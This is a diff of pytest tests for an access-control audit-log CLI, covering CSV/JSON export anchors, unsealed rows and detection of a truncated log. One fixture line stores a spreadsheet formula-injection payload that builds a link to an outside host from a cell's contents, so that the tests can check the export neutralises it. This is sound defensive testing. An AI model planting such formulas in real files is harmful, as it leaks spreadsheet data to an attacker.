@@ -5,13 +5,14 @@ from __future__ import annotations
 import csv
 import io
 import json
+import sqlite3
 from datetime import datetime, timedelta, timezone
 from pathlib import Path
 from zoneinfo import ZoneInfo
 
 import pytest
 
-from controller.store import audit
+from controller.store import audit, keys
 from controller.cli import main
 from controller.cli.log_cmd import parse_time
 from controller.store.db import open_database, session_factory
@@ -39,6 +40,7 @@ def data(tmp_path: Path, capsys) -> Path:
         audit.record(session, "access.denied", reason="unknown_credential", method="pin", door="main")
         # A hostile value in a free-text field must come out inert in a spreadsheet.
         audit.record(session, "access.denied", reason='=HYPERLINK("http://x?"&A1)', method="pin", door="main")
+        audit.seal_pending(session, keys.load_audit_key(DataDir(d)))
     engine.dispose()
     return d
 
@@ -65,12 +67,54 @@ def test_filters(capsys, data: Path) -> None:
 def test_csv_export_anchor_and_escaping(capsys, data: Path) -> None:
     _, head_out, _ = run(capsys, "audit", "head", "--data", str(data))
     rc, out, _ = run(capsys, "log", "--format", "csv", "--data", str(data))
-    rows = list(csv.reader(io.StringIO(out)))
+    assert not out.startswith("#")
+    reader = csv.DictReader(io.StringIO(out))
     seq, mac = head_out.split()[1:3]
-    assert rows[0][0].startswith(f"# kunci events export; anchor {seq} {mac}")
-    assert rows[1] == ["seq", "time", "type", "reason", "method", "user", "door", "actor", "score", "detail"]
-    assert ['\'=HYPERLINK("http://x?"&A1)'] == [r[3] for r in rows[2:] if "HYPERLINK" in r[3]]
+    columns = list(reader.fieldnames or ())
+    assert columns[:-1] == ["seq", "time", "type", "reason", "method", "user", "door", "actor", "score", "detail"]
+    assert columns[-1].startswith(f"kunci anchor {seq} {mac} exported_at=")
+    rows = list(reader)
+    assert ['\'=HYPERLINK("http://x?"&A1)'] == [r["reason"] for r in rows if "HYPERLINK" in r["reason"]]
     assert "Siti" not in out
+
+
+def test_export_leaves_out_unsealed_rows_says_how_many_and_its_anchor_verifies(capsys, data: Path) -> None:
+    # A row nobody sealed, written straight into the database (seq and mac NULL).
+    with sqlite3.connect(DataDir(data).db_file) as conn:
+        conn.execute("INSERT INTO events (time, type, reason, method, door, actor) "
+                     "VALUES ('2026-03-10T12:00:00.000000Z', 'access.denied', 'unsealed_row', 'pin', 'main', 'x')")
+    rc, out, err = run(capsys, "log", "--format", "csv", "--data", str(data))
+    assert rc == 0 and "unsealed_row" not in out
+    assert "1 matching event(s) not sealed yet were left out" in err
+    reader = csv.DictReader(io.StringIO(out))
+    anchor_column = (reader.fieldnames or [""])[-1]
+    assert " unsealed_left_out=1" in anchor_column
+    assert all(row["seq"] for row in reader)
+    export = data / "export.csv"
+    export.write_text(out)
+    rc, verify_out, _ = run(capsys, "audit", "verify", "--data", str(data), "--anchor-from", str(export))
+    assert "truncated" not in verify_out and "differs" not in verify_out and "export.csv" not in verify_out
+    assert "unsealed" in verify_out  # verify still names the unsealed row (exit 1 for it), not the anchor
+    rc, verify_out, _ = run(capsys, "audit", "verify", "--data", str(data), "--anchor", anchor_column)
+    assert "truncated" not in verify_out and "differs" not in verify_out
+    rc, json_out, err = run(capsys, "log", "--format", "json", "--data", str(data))
+    assert json.loads(json_out.splitlines()[0])["unsealed_left_out"] == 1 and "unsealed_row" not in json_out
+    assert "1 matching event(s) not sealed yet" in err
+
+
+def test_csv_export_anchor_verifies_and_a_later_cut_is_found(capsys, data: Path) -> None:
+    rc, out, _ = run(capsys, "log", "--format", "csv", "--data", str(data))
+    export = data / "export.csv"
+    export.write_text(out)
+    rc, verify_out, _ = run(capsys, "audit", "verify", "--data", str(data), "--anchor-from", str(export))
+    assert rc == 0, verify_out
+    anchor_column = out.splitlines()[0].rsplit(",", 1)[1].strip('"')
+    assert run(capsys, "audit", "verify", "--data", str(data), "--anchor", anchor_column)[0] == 0
+    # The same header naming a seq beyond the log's end: the log was cut after the export.
+    seq = int(anchor_column.split("seq=")[1].split()[0])
+    export.write_text(out.replace(f"kunci anchor seq={seq} ", f"kunci anchor seq={seq + 5} ", 1))
+    rc, verify_out, _ = run(capsys, "audit", "verify", "--data", str(data), "--anchor-from", str(export))
+    assert rc == 1 and "truncated" in verify_out
 
 
 def test_json_export(capsys, data: Path) -> None:
